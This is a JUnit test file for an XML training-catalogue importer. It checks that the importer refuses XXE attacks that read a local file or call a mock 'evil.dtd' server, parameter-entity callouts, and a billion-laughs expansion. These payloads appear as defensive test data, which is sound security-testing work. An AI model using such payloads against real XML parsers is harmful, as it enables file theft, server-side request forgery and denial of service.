package org.filiere.integration.training.lheo;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.atomic.AtomicInteger;

import org.filiere.integration.training.catalogue.CatalogueRefusedException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.sun.net.httpserver.HttpServer;

/**
 * The classic XML attacks on an importer: external entities reading local files or calling out, external DTDs,
 * and entity expansion ("billion laughs"). Each is refused before anything is resolved.
 */
class LheoSecurityTest {

    private HttpServer attacker;
    private final AtomicInteger calls = new AtomicInteger();

    @BeforeEach
    void startAttackersServer() throws Exception {
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext("/", exchange -> {
            calls.incrementAndGet();
            byte[] dtd = "<!ENTITY leak 'leaked'>".getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            exchange.getResponseBody().write(dtd);
            exchange.close();
        });
        attacker.start();
    }

    @AfterEach
    void stopAttackersServer() {
        attacker.stop(0);
    }

    private String attackerUrl() {
        return "http://127.0.0.1:" + attacker.getAddress().getPort() + "/evil.dtd";
    }

    @Test
    void shouldRefuseAnExternalEntityWithoutReadingTheLocalFile(@TempDir Path folder) throws Exception {
        Path secret = Files.writeString(folder.resolve("secret.txt"), "TOP-SECRET-4242");
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lheo [<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">]>\n"
                + "<lheo xmlns=\"http://lheo.gouv.fr/2.3\"><offres><formation numero=\"F1\">"
                + "<intitule-formation>&xxe;</intitule-formation><action numero=\"A1\"/></formation></offres></lheo>";

        assertThatThrownBy(() -> readAll(xml)).isInstanceOf(CatalogueRefusedException.class)
                .hasMessageContaining("declares a DOCTYPE").hasMessageNotContaining("TOP-SECRET");
    }

    @Test
    void shouldRefuseAnExternalEntityWithoutCallingItsServer() {
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lheo [<!ENTITY xxe SYSTEM \"" + attackerUrl() + "\">]>\n"
                + "<lheo xmlns=\"http://lheo.gouv.fr/2.3\"><offres><formation numero=\"F1\">"
                + "<intitule-formation>&xxe;</intitule-formation></formation></offres></lheo>";

        assertThatThrownBy(() -> readAll(xml)).isInstanceOf(CatalogueRefusedException.class);
        assertThat(calls).hasValue(0);
    }

    @Test
    void shouldRefuseAnExternalDtdWithoutFetchingIt() {
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lheo SYSTEM \"" + attackerUrl() + "\">\n"
                + "<lheo xmlns=\"http://lheo.gouv.fr/2.3\"><offres/></lheo>";

        assertThatThrownBy(() -> readAll(xml)).isInstanceOf(CatalogueRefusedException.class)
                .hasMessageContaining("declares a DOCTYPE");
        assertThat(calls).hasValue(0);
    }

    @Test
    void shouldRefuseAParameterEntityCallingOut() {
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE lheo [<!ENTITY % remote SYSTEM \"" + attackerUrl()
                + "\"> %remote;]>\n<lheo xmlns=\"http://lheo.gouv.fr/2.3\"><offres/></lheo>";

        assertThatThrownBy(() -> readAll(xml)).isInstanceOf(CatalogueRefusedException.class);
        assertThat(calls).hasValue(0);
    }

    @Test
    void shouldRefuseEntityExpansionBeforeItGrows() {
        StringBuilder doctype = new StringBuilder("<!DOCTYPE lheo [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 12; i++) {
            doctype.append("<!ENTITY lol").append(i).append(" \"")
                    .append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        doctype.append("]>");
        String xml = "<?xml version=\"1.0\"?>\n" + doctype + "\n<lheo xmlns=\"http://lheo.gouv.fr/2.3\"><offres>"
                + "<formation numero=\"F1\"><intitule-formation>&lol12;</intitule-formation></formation></offres></lheo>";
        long usedBefore = usedHeap();

        assertThatThrownBy(() -> readAll(xml)).isInstanceOf(CatalogueRefusedException.class)
                .hasMessageContaining("declares a DOCTYPE");
        assertThat(usedHeap() - usedBefore).as("heap grown by the attempt").isLessThan(32L * 1024 * 1024);
    }

    @Test
    void shouldRefuseAnUndeclaredEntityInAFileWithoutDoctype() {
        String xml = "<?xml version=\"1.0\"?><lheo xmlns=\"http://lheo.gouv.fr/2.3\"><offres><formation numero=\"F1\">"
                + "<intitule-formation>&xxe;</intitule-formation></formation></offres></lheo>";

        assertThatThrownBy(() -> readAll(xml)).isInstanceOf(CatalogueRefusedException.class);
    }

    private static long usedHeap() {
        Runtime runtime = Runtime.getRuntime();
        return runtime.totalMemory() - runtime.freeMemory();
    }

    private static void readAll(String xml) {
        try (LheoReader reader = LheoReader.open("evil.xml",
                new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)))) {
            reader.forEachRemaining(c -> {
            });
        }
    }
}
